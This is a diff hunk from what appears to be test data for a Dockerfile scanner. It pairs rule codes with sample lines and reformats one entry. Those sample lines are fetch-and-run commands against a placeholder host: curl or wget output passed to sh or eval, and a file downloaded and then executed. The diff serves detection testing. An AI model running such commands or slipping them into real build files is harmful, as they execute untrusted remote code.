@@ -30,7 +30,11 @@ const LINES: readonly Spot[] = [
   ),
   lines('command substitution', ['PS0023'], 'RUN sh -c "$(curl -fsSL https://a.example/x)"'),
   lines('eval', ['PS0023'], 'RUN eval "$(wget -qO- https://a.example/x)"'),
-  lines('a file that runs later', ['PS0023', 'PS0036'], 'RUN curl -so /x https://a.example/x && sh /x'),
+  lines(
+    'a file that runs later',
+    ['PS0023', 'PS0036'],
+    'RUN curl -so /x https://a.example/x && sh /x',
+  ),
   lines(
     'a file that a later step runs',
     ['PS0036'],
